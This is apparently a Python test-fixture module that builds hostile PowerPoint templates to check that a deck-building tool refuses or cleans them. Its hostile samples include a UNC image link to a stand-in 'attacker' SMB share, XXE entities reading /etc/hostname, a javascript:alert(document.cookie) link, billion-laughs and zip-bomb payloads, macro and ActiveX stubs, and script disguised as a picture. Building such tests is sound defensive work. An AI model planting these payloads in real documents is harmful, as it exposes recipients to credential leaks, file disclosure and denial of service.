"""Hostile deck templates: a clean presenter's template with one payload added.

Each case is a function of the clean template's members (name -> bytes) that
returns the members of the hostile one; :func:`package` zips them.  Cases
are grouped by what the build must do with them: refuse the template (one
line naming it and the part), or build a deck that carries none of it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

CLEAN = Path(__file__).resolve().parents[1] / "render" / "templates" / "renamed-layouts.pptx"
OFFICE_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MASTER = "ppt/slideMasters/slideMaster1.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
LAYOUT = "ppt/slideLayouts/slideLayout3.xml"  # "Inhalt": the Title and Content layout, found by its placeholders
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout3.xml.rels"
PRESENTATION_RELS = "ppt/_rels/presentation.xml.rels"
TYPES = "[Content_Types].xml"
THEME = "ppt/theme/theme1.xml"


def members(path: Path = CLEAN) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def package(parts: dict[str, bytes], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def add_rel(parts: dict, rels: str, rid: str, kind: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    parts.setdefault(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                           b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    parts[rels] = parts[rels].replace(b"</Relationships>", rel + b"</Relationships>")


def add_type(parts: dict, part: str, content_type: str) -> None:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    parts[TYPES] = parts[TYPES].replace(b"</Types>", override + b"</Types>")


def png(width: int = 2, height: int = 2, *, break_crc: bool = False) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) ^ (1 if break_crc and kind == b"IDAT" else 0)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
    rows = b"".join(b"\x00" + b"\x80\x20\x90" * width for _ in range(min(height, 4)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def master_picture(parts: dict, rid: str, target: str, data: bytes | None, *, external: bool = False) -> None:
    """A picture on the master (a logo), through relationship ``rid``."""
    if data is not None:
        parts["ppt/media/logo.png"] = data
    add_rel(parts, MASTER_RELS, rid, OFFICE_RT + "image", target, external)
    pic = (f'<p:pic><p:nvPicPr><p:cNvPr id="99" name="Logo"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
           f'<p:blipFill><a:blip r:{"link" if external else "embed"}="{rid}"/><a:stretch><a:fillRect/></a:stretch>'
           f'</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
           f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>').encode()
    parts[MASTER] = parts[MASTER].replace(b"</p:spTree>", pic + b"</p:spTree>", 1)


def with_doctype(xml: bytes, doctype: bytes) -> bytes:
    head, rest = xml.split(b"?>", 1)
    return head + b"?>" + doctype + rest


# ---------------------------------------------------------------- refused
def macro_content_type(parts):
    """A .pptm renamed .pptx: the main part is macro-enabled."""
    parts[TYPES] = parts[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    return parts


def vba_project(parts):
    parts["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 64
    add_rel(parts, PRESENTATION_RELS, "rId90", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin")
    add_type(parts, "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return parts


def vba_project_unlinked(parts):
    """A VBA project nothing points at (python-pptx would still copy it along)."""
    parts["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 64
    return parts


def activex_control(parts):
    parts["ppt/activeX/activeX1.xml"] = (b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                                         b'office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')
    add_rel(parts, MASTER_RELS, "rId90", OFFICE_RT + "control", "../activeX/activeX1.xml")
    add_type(parts, "ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    return parts


def ole_object(parts):
    parts["ppt/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    add_rel(parts, LAYOUT_RELS, "rId90", OFFICE_RT + "oleObject", "../embeddings/oleObject1.bin")
    return parts


def external_picture(parts):
    master_picture(parts, "rId90", "file:///etc/passwd", None, external=True)
    return parts


def javascript_link(parts):
    add_rel(parts, LAYOUT_RELS, "rId90", OFFICE_RT + "hyperlink", "javascript:alert(document.cookie)", True)
    return parts


def smb_theme_picture(parts):
    add_rel(parts, "ppt/theme/_rels/theme1.xml.rels", "rId90", OFFICE_RT + "image", "\\\\attacker\\share\\x.png",
            True)
    return parts


def billion_laughs_theme(parts):
    doctype = (b'<!DOCTYPE a:theme [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;">'
               b'<!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]>')
    parts[THEME] = with_doctype(parts[THEME], doctype).replace(b'name="Clinic"', b'name="&l3;"', 1)
    return parts


def external_entity_master(parts):
    doctype = b'<!DOCTYPE p:sldMaster [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    parts[MASTER] = with_doctype(parts[MASTER], doctype)
    return parts


def undefined_entity_layout(parts):
    parts[LAYOUT] = parts[LAYOUT].replace(b'name="', b'name="&nbsp;', 1)
    return parts


def zip_bomb_member(parts):
    """A picture member that inflates some 1000 times (24 MB of zeros)."""
    parts["ppt/media/bomb.png"] = b"\x00" * (24 * 1024 * 1024)
    return parts


def oversize_member(parts):
    """A 40 MB member, within a ratio a picture could have but over the member cap."""
    parts["ppt/media/huge.bin"] = zlib.compress(b"noise") * 1 + bytes(range(256)) * (40 * 4096)
    return parts


def broken_picture(parts):
    master_picture(parts, "rId90", "../media/logo.png", png(break_crc=True))
    return parts


def giant_picture(parts):
    master_picture(parts, "rId90", "../media/logo.png", png(100_000, 100_000))
    return parts


def script_as_picture(parts):
    master_picture(parts, "rId90", "../media/logo.png",
                   b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    return parts


# (id, make, fragment of the one-line error)
REFUSED = [
    ("macro-content-type", macro_content_type, "macros (a macro-enabled presentation)"),
    ("vba-project", vba_project, "a VBA project (macros)"),
    ("vba-project-unlinked", vba_project_unlinked, "a VBA project (macros)"),
    ("activex-control", activex_control, "ActiveX controls"),
    ("ole-object", ole_object, "an OLE object"),
    ("external-picture", external_picture, "links to 'file:///etc/passwd' outside the template"),
    ("javascript-link", javascript_link, "links to 'javascript:alert(document.cookie)'"),
    ("smb-theme-picture", smb_theme_picture, "external relationships are not allowed"),
    ("billion-laughs-theme", billion_laughs_theme, "has a DOCTYPE"),
    ("external-entity-master", external_entity_master, "has a DOCTYPE"),
    ("undefined-entity-layout", undefined_entity_layout, "is not well-formed XML"),
    ("zip-bomb-member", zip_bomb_member, "a zip bomb?"),
    ("oversize-member", oversize_member, "(at most 32 MB): refused unread"),
    ("broken-picture", broken_picture, "damaged PNG"),
    ("giant-picture", giant_picture, "100000×100000 pixels"),
    ("script-as-picture", script_as_picture, "not a PNG, JPEG, GIF, EMF or WMF picture"),
]


# ------------------------------------------------------- carried over clean
def junk_parts(parts):
    """Parts a deck has no use for: custom XML, comment authors, a thumbnail and tags."""
    parts["customXml/item1.xml"] = b'<?xml version="1.0"?><secret>patient list</secret>'
    add_rel(parts, "_rels/.rels", "rId90", OFFICE_RT + "customXml", "customXml/item1.xml")
    parts["ppt/commentAuthors.xml"] = (b'<?xml version="1.0"?><p:cmAuthorLst xmlns:p="http://schemas.openxmlformats.'
                                       b'org/presentationml/2006/main"><p:cmAuthor id="1" name="Mallory" '
                                       b'initials="M" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>')
    add_rel(parts, PRESENTATION_RELS, "rId91", OFFICE_RT + "commentAuthors", "commentAuthors.xml")
    add_type(parts, "ppt/commentAuthors.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.commentAuthors+xml")
    parts["ppt/tags/tag1.xml"] = (b'<?xml version="1.0"?><p:tagLst xmlns:p="http://schemas.openxmlformats.org/'
                                  b'presentationml/2006/main"><p:tag name="TRACKER" val="x"/></p:tagLst>')
    add_rel(parts, MASTER_RELS, "rId92", OFFICE_RT + "tags", "../tags/tag1.xml")
    return parts


def logo_on_master(parts):
    """A real (small) picture on the master: kept, re-validated, typed from its bytes."""
    master_picture(parts, "rId90", "../media/logo.png", png(8, 8))
    parts[TYPES] = parts[TYPES].replace(b"</Types>", b'<Default Extension="png" ContentType="text/html"/></Types>')
    return parts


def unused_ole_default(parts):
    """A content type declared for ``.bin`` files (as PowerPoint leaves it) with no such part: no payload."""
    parts[TYPES] = parts[TYPES].replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                                     b'vnd.openxmlformats-officedocument.oleObject"/></Types>')
    return parts


CLEANED = [("junk-parts", junk_parts), ("logo-on-master", logo_on_master), ("unused-ole-default", unused_ole_default)]


# ------------------------------------------------------- a layout lacking what it needs
def without_content_placeholder(parts):
    """The Title and Content layout, found by its name, has lost its content placeholder."""
    import re
    xml = parts[LAYOUT].decode()
    shapes = re.findall(r"<p:sp>.*?</p:sp>", xml, re.S)
    content = [s for s in shapes if '<p:ph idx="1"' in s or ('<p:ph ' in s and 'type="' not in s.split("<p:ph", 1)[1]
                                                                  .split("/>", 1)[0])]
    for shape in content:
        xml = xml.replace(shape, "")
    parts[LAYOUT] = xml.replace('name="Inhalt"', 'name="Title and Content"', 1).encode()
    return parts
